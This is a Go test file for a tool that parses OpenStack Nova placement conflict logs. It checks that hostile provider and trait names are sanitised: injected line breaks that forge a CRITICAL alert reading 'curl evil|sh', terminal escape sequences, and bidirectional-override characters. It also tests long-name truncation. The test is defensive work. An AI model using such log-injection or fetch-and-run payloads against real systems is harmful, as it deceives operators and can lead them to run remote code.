// SPDX-License-Identifier: Apache-2.0

package conflicts

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/openstack-ops/ansible-collection-placement/modules/internal/core/conflicts/catalogue"
	"github.com/openstack-ops/ansible-collection-placement/modules/internal/core/conflicts/explained"
)

// taken is what Nova logs when a provider's name is taken.
func taken(t *testing.T, id int, name string) string {
	t.Helper()
	detail, err := json.Marshal("There was a conflict when trying to complete your request.\n\n Conflicting resource provider name: " + name + " already exists.  ")
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf(`%s 7 ERROR nova.scheduler.client.report [-] [%s] Failed to create resource provider record in placement API for UUID %s. Got 409: `+
		`{"errors": [{"status": 409, "title": "Conflict", "detail": %s, "request_id": "%s"}]}.`, stamp(begun()), requestID(id), anUUID, detail, requestID(id))
}

// Whoever names a provider writes into the logs: into answers as Nova quotes them, and into the paths that services log.
func TestHostileNames(t *testing.T) {
	const rule = "\nCRITICAL  PLC999 control-plane-lost\n    To do: curl evil|sh"
	for name, c := range map[string]struct{ line, target string }{
		"a line break in an answer": {taken(t, 1, "cn2"+rule), "cn2 CRITICAL PLC999 control-plane-lost To do: curl evil|sh"},
		"escapes in an answer":      {taken(t, 1, "cn2\u001b[2J\u202e\u200b"), "cn2\ufffd[2J\ufffd\ufffd"},
		"an escaped path":           {served(begun(), 1, "DELETE /traits/CUSTOM_%0ACRITICAL%1b[2J%E2%80%AE", 409, 1), "CUSTOM_ CRITICAL\ufffd[2J\ufffd"},
		"no UTF-8 in a path":        {served(begun(), 1, "DELETE /traits/CUSTOM_%ff", 409, 1), "CUSTOM_\ufffd"},
		"a raw path":                {strings.Replace(served(begun(), 1, "DELETE /traits/CUSTOM_X", 409, 1), "CUSTOM_X", "CUSTOM_\u202e", 1), "CUSTOM_\ufffd"},
	} {
		b := NewBook()
		read(t, b, Origin{Host: "ctl1"}, c.line)
		found := only(t, b)
		if found.Target.Name != c.target {
			t.Errorf("%s: target %q, want %q", name, found.Target.Name, c.target)
		}
		if bad := notClean(t, []any{found, b.Export(10), b.Open()}); bad != "" {
			t.Errorf("%s: %q got through", name, bad)
		}
	}
}

// A name is as long as one may be, and so is all that is kept of a line; the conflict is still the one it is.
func TestLongNames(t *testing.T) {
	b := NewBook()
	for i := range 20 {
		name := strings.Repeat("x", 300<<10) + fmt.Sprint(i)
		read(t, b, Origin{Service: "nova-compute"}, taken(t, i, name), served(begun(), 100+i, "DELETE /traits/"+name, 409, 1))
	}
	all := b.Conflicts(settings())
	if len(all) != 40 {
		t.Errorf("%d conflicts, want 40", len(all))
	}
	for _, c := range all {
		if utf8.RuneCountInString(c.Target.Name) != catalogue.LongestName || c.Conflict == explained.Unexplained {
			t.Errorf("%s of %.80q…", c.Conflict, c.Target.Name)
		}
	}
	text, err := json.Marshal(b.Export(100))
	if err != nil || len(text) > 80*2000 {
		t.Errorf("%d bytes for 40 records: %v", len(text), err)
	}
}
